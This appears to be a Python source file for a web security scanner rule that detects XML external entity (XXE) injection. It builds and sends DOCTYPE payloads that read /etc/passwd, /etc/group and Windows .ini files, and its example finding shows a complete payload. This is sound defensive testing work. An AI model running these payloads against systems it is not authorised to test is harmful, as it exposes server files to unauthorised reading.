"""XML external entities (ZAP rule 90023, in-band only).

For an XML body, the rule rewrites the document with a DOCTYPE declaring an external
entity that reads a local file, and references it in one leaf element at a time (the
one the application echoes is not known in advance). The file's content in the answer,
absent from the baseline, is the proof; a second file through a second entity must come
back too. Only files are read; nothing is fetched over the network.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import ClassVar

from bastion.dast.checks.base import ActiveRule, Probe
from bastion.dast.checks.detect import decoded_variants, match_excerpt, search
from bastion.dast.checks.detect_probe import Budgeted, BudgetSpent
from bastion.dast.checks.payloads import GROUP, PASSWD, SYSTEM_INI, WIN_INI, KnownFile
from bastion.dast.engine.insertion import XmlNode, is_xml, parse_xml_offsets, splice_xml
from bastion.dast.model import (
    Confidence,
    DastFinding,
    HttpRequest,
    InsertionPoint,
    Location,
    ScanInput,
)
from bastion.models import Severity

# Leaf elements tried per file (documents with more leaves rarely echo a later one only).
MAX_ELEMENTS = 4


@dataclass(frozen=True, slots=True)
class FileUrl:
    target: KnownFile
    url: str


UNIX_FILE = FileUrl(PASSWD, "file:///etc/passwd")
UNIX_SECOND = FileUrl(GROUP, "file:///etc/group")
WINDOWS_FILE = FileUrl(WIN_INI, "file:///c:/windows/win.ini")
WINDOWS_SECOND = FileUrl(SYSTEM_INI, "file:///c:/windows/system.ini")


def build_document(body: bytes, node: XmlNode | None, root: str, file_url: str) -> bytes:
    """The document with a DOCTYPE declaring ``&bstn;`` as ``file_url``, referenced in
    ``node`` (the original prolog and any DOCTYPE are dropped: there can be only one).
    Without a node (unparseable body), a minimal document that echoes nothing else."""
    doctype = f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY bstn SYSTEM "{file_url}">]>\n'
    if node is None:
        return (doctype + f"<{root}>&bstn;</{root}>").encode()
    document = parse_xml_offsets(body)
    assert document is not None
    spliced = splice_xml(body, node, b"&bstn;")
    return doctype.encode() + spliced[document.root_start :]


class XmlExternalEntity(ActiveRule):
    rule_id: ClassVar[str] = "dast.xxe"
    name: ClassVar[str] = "XML external entity (XXE) injection"
    cwe: ClassVar[int] = 611
    severity: ClassVar[Severity] = Severity.HIGH
    confidence: ClassVar[Confidence] = Confidence.HIGH
    description: ClassVar[str] = (
        "The XML parser resolves external entities declared by the request: an attacker "
        "reads files from the server, reaches internal hosts (SSRF) or exhausts memory."
    )
    remediation: ClassVar[str] = (
        "Disable DTD processing (or at least external entities and external DTDs) in "
        "the XML parser: defusedxml in Python, XMLConstants.FEATURE_SECURE_PROCESSING and "
        "disallow-doctype-decl in Java, DtdProcessing.Prohibit in .NET."
    )
    tags: ClassVar[tuple[str, ...]] = ("OWASP_2021_A05", "WSTG-INPV-07")
    references: ClassVar[tuple[str, ...]] = (
        "https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing",
        "https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",
        "https://cwe.mitre.org/data/definitions/611.html",
    )
    locations: ClassVar[frozenset[Location]] = frozenset({Location.XML_DOCUMENT})
    # Unix and Windows file per element, and the confirmation.
    max_requests: ClassVar[int] = 2 * MAX_ELEMENTS + 1

    def applies_to(self, target: ScanInput, point: InsertionPoint) -> bool:
        return point.location is Location.XML_DOCUMENT and is_xml(target.request)

    async def scan(self, probe: Probe) -> DastFinding | None:
        budget = Budgeted(probe, self.max_requests)
        try:
            return await self._scan(budget)
        except BudgetSpent:
            return None

    async def _scan(self, probe: Budgeted) -> DastFinding | None:
        body = probe.target.request.body
        document = parse_xml_offsets(body)
        nodes: list[XmlNode | None]
        if document is None:
            root, nodes = "bstn", [None]
        else:
            root = document.root
            nodes = [*document.elements[:MAX_ELEMENTS]] or [None]
        baseline = decoded_variants(probe.baseline.text)
        for first, second in ((UNIX_FILE, UNIX_SECOND), (WINDOWS_FILE, WINDOWS_SECOND)):
            if any(first.target.signature.search(text) for text in baseline):
                continue
            for node in nodes:
                payload = build_document(body, node, root, first.url).decode("utf-8", "replace")
                exchange = await probe.send(payload)
                match = search(first.target.signature, exchange.response.text)
                if match is None:
                    continue
                payload2 = build_document(body, node, root, second.url)
                again = await probe.send(payload2.decode("utf-8", "replace"))
                if search(second.target.signature, again.response.text) is None:
                    return None
                where = node.name if node is not None else "a minimal document"
                return self.make_finding(
                    request=exchange.request,
                    evidence=(
                        f"an external entity for {first.url} in {where} came back with the "
                        f"file's content ({match.group(0)!r}); {second.url} did too"
                    ),
                    parameter=where,
                    location=Location.XML_DOCUMENT,
                    payload=payload,
                    response_excerpt=match_excerpt(match),
                    confirmations=(again.request,),
                )
        return None

    @classmethod
    def example(cls) -> DastFinding:
        payload = (
            '<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY bstn SYSTEM '
            '"file:///etc/passwd">]>\n<order><item>&bstn;</item></order>'
        )
        request = HttpRequest(
            "POST",
            "https://api.example/orders",
            body=payload.encode(),
            content_type="application/xml",
        )
        return cls.make_finding(
            request=request,
            evidence=(
                "an external entity for file:///etc/passwd in /order/item came back with "
                "the file's content ('root:x:0:0:'); file:///etc/group did too"
            ),
            parameter="/order/item",
            location=Location.XML_DOCUMENT,
            payload=payload,
            response_excerpt="<error>Unknown item root:x:0:0:root:/root:/bin/bash…</error>",
        )
